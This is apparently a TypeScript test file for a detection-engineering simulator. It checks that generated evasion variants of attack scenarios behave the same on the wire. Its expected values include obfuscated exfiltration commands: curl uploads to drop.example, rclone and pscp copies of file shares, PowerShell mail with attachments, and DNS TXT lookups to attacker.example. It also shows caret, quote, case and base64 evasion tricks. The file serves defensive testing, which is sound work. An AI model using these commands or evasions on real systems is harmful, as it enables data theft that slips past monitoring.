import { describe, expect, test } from 'vitest'
import type { Activity } from '../../src/simulation/activity.ts'
import { happenings } from '../../src/simulation/happenings.ts'
import type { EvasionFamily, Scenario, ScenarioProcess } from '../../src/simulation/scenario.ts'
import { type Variant, variantsOf } from '../../src/simulation/variants/index.ts'
import { ATTACKS, CURL, LINUX, LOOKUP, MAIL, PUTTY, RCLONE } from './variant-scenarios.ts'

const lines = (scenario: Scenario, family: EvasionFamily): readonly string[] =>
  variantsOf(scenario, { perFamily: 20 })
    .filter((variant) => variant.family === family)
    .map((variant) => variant.commandLine)

const all = (processes: readonly ScenarioProcess[]): readonly ScenarioProcess[] =>
  processes.flatMap((process) => [process, ...all(process.children)])

const process = (variant: Variant, id: string): ScenarioProcess => {
  const found = all(variant.scenario.processes).find((each) => each.id === id)
  if (found === undefined) throw new Error(`no process ${id}`)
  return found
}

const of = (scenario: Scenario, family: EvasionFamily, title: string): Variant => {
  const found = variantsOf(scenario, { perFamily: 20 }).find((each) => each.family === family && each.title === title)
  if (found === undefined) throw new Error(`no ${family} of ${scenario.id} is called ${title}`)
  return found
}

/** Where bytes went, but DNS, whose ways differ. */
const traffic = (activities: readonly Activity[], withPorts: boolean): readonly unknown[] =>
  activities.flatMap((activity) =>
    activity.kind === 'connection' && activity.service !== 'dns'
      ? [[activity.remote.address, withPorts ? activity.remote.port : 0, activity.bytesOut, activity.bytesIn]]
      : [],
  )

describe('every variant', () => {
  test.each(ATTACKS.map((scenario) => [scenario.id, scenario] as const))('of %s does the same', (_, scenario) => {
    const variants = variantsOf(scenario, { perFamily: 20 })
    const original = happenings(scenario)
    for (const { family, scenario: changed } of variants) {
      const activities = happenings(changed)
      const withPorts = family !== 'other-port'
      expect(traffic(activities, withPorts)).toEqual(traffic(original, withPorts))
      const names = (list: readonly Activity[]): readonly string[] =>
        list.flatMap((each) => (each.kind === 'lookup' ? [each.name] : []))
      expect(names(activities)).toEqual(names(original))
      expect(changed.signals).toEqual([])
      expect(JSON.stringify(changed.processes)).not.toBe(JSON.stringify(scenario.processes))
    }
    expect(new Set(variants.map(({ scenario: { id } }) => id)).size).toBe(variants.length)
    expect(new Set(variants.map(({ scenario: { processes } }) => JSON.stringify(processes))).size).toBe(variants.length)
    expect(variants.length).toBeGreaterThan(12)
  })

  test('is the same for the same seed, with at most four of a family', () => {
    const first = variantsOf(MAIL)
    expect(variantsOf(MAIL)).toEqual(first)
    expect(variantsOf(MAIL, { seed: 2 })).not.toEqual(first)
    for (const family of new Set(first.map((each) => each.family))) {
      expect(first.filter((each) => each.family === family).length).toBeLessThanOrEqual(4)
    }
    expect(first.map(({ scenario: { id } }) => id)).toContain('mail~renamed-1')
    expect(variantsOf({ ...MAIL, kind: 'benign' })).toEqual([])
  })

  test('varies the processes that the scenario names, and no others', () => {
    const named = { ...CURL, evasion: { ...CURL.evasion, actors: ['shell'] } }
    const variants = variantsOf(named)
    expect(variants.map(({ family }) => family)).toContain('renamed')
    for (const variant of variants.filter(({ family }) => family === 'renamed')) {
      expect(process(variant, 'curl')).toEqual(process({ ...variant, scenario: CURL }, 'curl'))
      expect(process(variant, 'shell').image).not.toMatch(/cmd\.exe$/)
    }
  })
})

describe('families', () => {
  test('a copy keeps its digests and its version resource', () => {
    for (const scenario of [RCLONE, LINUX]) {
      const digest = (activities: readonly Activity[]): readonly string[] =>
        activities.flatMap((each) => (each.kind === 'process-start' ? [each.process.hashes.sha256] : []))
      for (const variant of variantsOf(scenario).filter(({ family }) => family === 'renamed')) {
        expect(digest(happenings(variant.scenario))).toEqual(digest(happenings(scenario)))
      }
    }
    const copy = of(RCLONE, 'renamed', 'rclone.exe as C:\\ProgramData\\update.exe')
    expect(process(copy, 'rclone')).toMatchObject({
      image: 'C:\\ProgramData\\update.exe',
      workingDirectory: 'C:\\ProgramData\\',
      version: { originalFileName: 'rclone.exe' },
    })
    expect(copy.commandLine).toMatch(/^update\.exe copy C:\\Shares\\Finance :sftp:inbox /)
  })

  test('cmd.exe takes carets away and hands quotes on', () => {
    const caret = of(CURL, 'caret', 'a caret within the name')
    expect(process(caret, 'shell').commandLine).toBe(
      'cmd.exe /c c^url.exe -k --upload-file C:\\Users\\j.doe\\a.zip https://drop.example/in',
    )
    expect(process(caret, 'curl').commandLine).toBe(process({ ...caret, scenario: CURL }, 'curl').commandLine)
    const quotes = of(CURL, 'quoting', 'quotes within the name')
    expect(process(quotes, 'shell').commandLine).toMatch(/^cmd\.exe \/c c"u"rl\.exe -k /)
    expect(process(quotes, 'curl').commandLine).toMatch(/^c"u"rl\.exe -k /)
    expect(lines(RCLONE, 'caret')).toEqual([])
  })

  test('PowerShell starts programs by their path and is told names', () => {
    const upper = of(LOOKUP, 'case', 'nslookup.exe in upper case')
    expect(process(upper, 'nslookup').commandLine).toMatch(/^"C:\\Windows\\System32\\NSLOOKUP\.EXE" -type=TXT /)
    expect(process(upper, 'shell').scripts[0]?.text).toMatch(/^NSLOOKUP\.EXE -type=TXT /)
    const accents = of(MAIL, 'quoting', 'grave accents within names')
    expect(process(accents, 'mail').scripts[0]?.text).toMatch(/^Send-`Mai`l`Me`s`sage -From /)
    expect(process(accents, 'mail').commandLine).toContain('-Command "Send-`Mai`l`Me`s`sage -From ')
  })

  test('a POSIX shell takes quotes away', () => {
    const quotes = of(LINUX, 'quoting', 'double quotes within the name')
    expect(process(quotes, 'sh').commandLine).toMatch(/^bash -c c""url -F /)
    expect(process(quotes, 'curl').commandLine).toMatch(/^curl -F /)
  })

  test('case changes names, and no flag whose case counts', () => {
    for (const line of lines(CURL, 'case')) expect(line).toMatch(/ -k --upload-file C:\\Users\\j\.doe\\a\.zip https/)
    expect(lines(LINUX, 'case')).toEqual([])
    expect(lines(MAIL, 'case').join('\n')).toMatch(/POWERSHELL\.EXE -NOPROFILE -COMMAND "Send-MailMessage/)
  })

  test('forms of flags', () => {
    expect(lines(CURL, 'flag-form')).toEqual(
      expect.arrayContaining([
        'curl.exe --insecure -T C:\\Users\\j.doe\\a.zip https://drop.example/in',
        'curl.exe -k -TC:\\Users\\j.doe\\a.zip https://drop.example/in',
      ]),
    )
    expect(lines(MAIL, 'flag-form').join('\n')).toMatch(/-Smtp 203\.0\.113\.25 -Att C:/)
    expect(lines(LOOKUP, 'flag-form')).toContain('"C:\\Windows\\System32\\nslookup.exe" -q=TXT 4a6f.attacker.example')
    const encoded = lines(MAIL, 'flag-form').find((line) => line.includes('-EncodedCommand')) ?? ''
    expect(Buffer.from(encoded.split(' ').at(-1) ?? '', 'base64').toString('utf16le')).toMatch(
      /^Send-MailMessage .*a\.zip$/,
    )
  })

  test('slashes and values', () => {
    expect(lines(RCLONE, 'slash').join('\n')).toMatch(/--sftp-host=192\.0\.2\.1 --sftp-user=up --sftp-pass=x -v/)
    expect(lines(CURL, 'slash')).toEqual(['curl.exe -k --upload-file C:/Users/j.doe/a.zip https://drop.example/in'])
    expect(lines(MAIL, 'slash')[0]).toMatch(/^powershell\.exe \/NoProfile \/Command "/)
  })

  test('orders that the tool accepts', () => {
    expect(lines(PUTTY, 'argument-order')).toEqual(['pscp.exe -r -pw x C:\\Shares up@198.51.100.1:/in'])
    expect(lines(CURL, 'argument-order')).toContain(
      'curl.exe https://drop.example/in -k --upload-file C:\\Users\\j.doe\\a.zip',
    )
    const odd = {
      ...CURL,
      processes: [
        {
          ...process({ ...of(CURL, 'caret', 'carets everywhere') }, 'curl'),
          commandLine: 'curl.exe --no-such x -T a b',
        },
      ],
    }
    expect(lines(odd, 'argument-order')).toEqual([])
  })

  test('other tools and ports, in the command line and on the wire', () => {
    const tools = lines(RCLONE, 'other-tool').map((line) => line.split(' ')[0])
    expect(tools).toEqual(['WinSCP.exe', 'pscp.exe', 'scp.exe'])
    const port = of(CURL, 'other-port', 'port 8443')
    expect(process(port, 'shell').commandLine).toContain('https://drop.example:8443/in')
    expect(process(port, 'curl').connections[0]?.port).toBe(8443)
    expect(lines(PUTTY, 'other-port')).toContain('pscp.exe -P 2222 -pw x -r C:\\Shares up@198.51.100.1:/in')
    expect(lines(MAIL, 'other-tool').join('\n')).toMatch(/SmtpClient\('203\.0\.113\.25', 25\)/)
    expect(lines(LOOKUP, 'other-port')).toEqual([])
  })

  test('the same on Linux', () => {
    const [variant] = variantsOf(CURL).filter(({ family }) => family === 'linux-name')
    expect(variant?.scenario.hosts[0]?.os).toBe('linux')
    expect(variant?.commandLine).toBe('curl -k --upload-file /home/j.doe/a.zip https://drop.example/in')
    expect(lines(LINUX, 'linux-name')).toEqual([])
  })
})
